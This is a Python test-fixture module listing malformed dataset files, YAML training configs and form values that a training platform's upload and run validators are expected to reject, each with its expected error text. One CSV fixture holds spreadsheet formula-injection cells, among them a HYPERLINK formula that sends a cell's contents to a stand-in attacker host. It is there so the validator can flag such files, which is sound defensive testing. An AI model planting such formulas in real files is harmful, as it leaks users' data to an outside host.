"""The bad-input corpus: dataset files, run configs and form values that must be refused with a
clear error next to what is wrong. Generated here (no binary fixtures in the repository); each
entry names what it is, the input, where the error must appear and a phrase it must contain."""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from typing import Any


@dataclass(frozen=True)
class BadFile:
    id: str
    filename: str
    content: bytes
    says: tuple[str, ...]
    """Phrases the error next to the file field contains."""
    settings: dict[str, Any] = field(default_factory=dict)


def _rows(n: int = 4) -> list[dict[str, Any]]:
    return [{"question": f"What is {i} + {i}?", "answer": str(2 * i)} for i in range(n)]


def _jsonl(rows: list[dict[str, Any]]) -> bytes:
    return "".join(json.dumps(r) + "\n" for r in rows).encode()


def _csv(header: str, *lines: str) -> bytes:
    return ("\n".join([header, *lines]) + "\n").encode()


GOOD_JSONL = _jsonl(_rows())

FILES = [
    BadFile("empty", "tasks.jsonl", b"", ("empty",)),
    BadFile("whitespace only", "tasks.jsonl", b"  \n\n \t\n", ("empty",)),
    BadFile("binary (PNG)", "tasks.jsonl", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00", ("binary",)),
    BadFile("binary without NUL bytes", "tasks.csv", bytes(range(128, 256)) * 8, ("not valid UTF-8",)),
    BadFile("latin-1 text", "tasks.jsonl", GOOD_JSONL + '{"question": "caf\u00e9?", "answer": "1"}\n'.encode("latin-1"),
            ("not valid UTF-8", "line 5")),
    BadFile("UTF-16 with a BOM", "tasks.csv", "question,answer\n1+1?,2\n".encode("utf-16"), ("UTF-16", "UTF-8")),
    BadFile("CSV missing a required column", "tasks.csv", _csv("question,notes", "1+1?,easy"), ("answer", "line 2")),
    BadFile("CSV with an empty header cell", "tasks.csv", _csv("question,,answer", "1+1?,x,2"), ("header", "empty column name")),
    BadFile("CSV row with more cells than the header", "tasks.csv", _csv("question,answer", "1+1?,2", "2+2?,4,extra"),
            ("line 3", "more cells")),
    BadFile("CSV with an empty required cell", "tasks.csv", _csv("question,answer", "1+1?,2", "2+2?,"), ("line 3", "answer")),
    BadFile("JSONL with a broken line", "tasks.jsonl", GOOD_JSONL + b'{"question": "2+2", "answer": \n', ("line 5", "invalid JSON")),
    BadFile("JSONL line that is not an object", "tasks.jsonl", GOOD_JSONL + b"[1, 2]\n", ("line 5", "JSON object")),
    BadFile("JSONL as one JSON array", "tasks.json", json.dumps(_rows()).encode(), ("line 1", "JSON object")),
    BadFile("JSONL missing a required field", "tasks.jsonl", GOOD_JSONL + b'{"question": "3+3?"}\n', ("line 5", "answer")),
    BadFile("more rows than the limit", "tasks.jsonl", _jsonl(_rows(6)), ("more than 3 rows",), {"TROUPE_UPLOAD_MAX_ROWS": 3}),
    BadFile("more bytes than the limit", "tasks.jsonl", GOOD_JSONL, ("limit is 64",), {"TROUPE_UPLOAD_MAX_BYTES": 64}),
]


FORMULA_CSV = _csv(
    "question,answer",
    '"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",2',
    "+1+1,2",
    "@SUM(A1:A9),3",
    "What is 2 - 5?,-3",  # a plain negative number is not a formula
)
"""A valid dataset whose cells would become formulas in a spreadsheet: uploaded, but flagged."""


# -- configs through the run form's advanced YAML box (and the engine's YAML loader) ---------------

BAD_YAML = [
    ("unknown section", "nonsense: 1", "nonsense", "unknown field"),
    ("unknown key", "optim: {stepz: 3}", "optim.stepz", "unknown field"),
    ("wrong type: text for a number", "optim: {steps: many}", "optim.steps", "expected an integer"),
    ("wrong type: list for a number", "grpo: {k: [4]}", "grpo.k", "expected an integer"),
    ("wrong type: number for a section", "grpo: 4", "grpo", "expected a mapping"),
    ("wrong type: text for a boolean", "eval: {sampled: sometimes}", "eval.sampled", "expected true or false"),
    ("negative steps", "optim: {steps: -5}", "optim.steps", "between 1 and"),
    ("zero steps", "optim: {steps: 0}", "optim.steps", "between 1 and"),
    ("absurd steps", "optim: {steps: 1000000000000}", "optim.steps", "between 1 and"),
    ("negative learning rate", "optim: {lr: -0.001}", "optim.lr", "must be positive"),
    ("absurd learning rate", "optim: {lr: 50}", "optim.lr", "between"),
    ("group of one", "grpo: {k: 1}", "grpo.k", "at least 2"),
    ("absurd group", "grpo: {k: 100000}", "grpo.k", "between 2 and"),
    ("negative temperature", "generation: {temperature: -1}", "generation.temperature", "between"),
    ("absurd completion length", "generation: {max_new_tokens: 10000000}", "generation.max_new_tokens", "between 1 and"),
    ("unknown loss", "grpo: {loss_type: magic}", "grpo.loss_type", "allowed"),
    ("negative seed", "seed: -1", "seed", "between 0 and"),
    ("not YAML", "grpo: [1, 2", "yaml", "valid YAML"),
    ("not a mapping", "- 1\n- 2", "yaml", "mapping"),
    ("clip out of range", "grpo: {eps_low: 5}", "grpo.eps_low", "between"),
]
"""(what, advanced YAML, the dotted field the error names, a phrase of it)."""


# -- the run form's own fields ------------------------------------------------------------------------

BAD_RUN_FIELDS = [
    ("steps", "-3", "optim.steps"),
    ("steps", "ten", "whole number"),
    ("steps", "99999999999", "optim.steps"),
    ("k", "0", "grpo.k"),
    ("k", "1.5", "whole number"),
    ("tasks_per_step", "0", "optim.tasks_per_step"),
    ("lr", "-1e-4", "optim.lr"),
    ("lr", "fast", "number"),
    ("lora_r", "0", "lora.r"),
    ("max_new_tokens", "0", "generation.max_new_tokens"),
    ("max_new_tokens", "1000000", "generation.max_new_tokens"),
    ("temperature", "-0.5", "generation.temperature"),
    ("temperature", "hot", "number"),
    ("beta", "-1", "grpo.beta"),
    ("eval_every", "-2", "eval.every"),
    ("gpus", "0", "resources.gpus"),
    ("gpus", "65", "resources.gpus"),
    ("gpus", "two", "whole number"),
    ("specialization", "telepathy", "valid choice"),
    ("topology", "999999", "valid choice"),
    ("dataset", "abc", "valid choice"),
    ("name", "x" * 201, "at most 200"),
]
"""(field, bad value, a phrase of the error shown at that field)."""
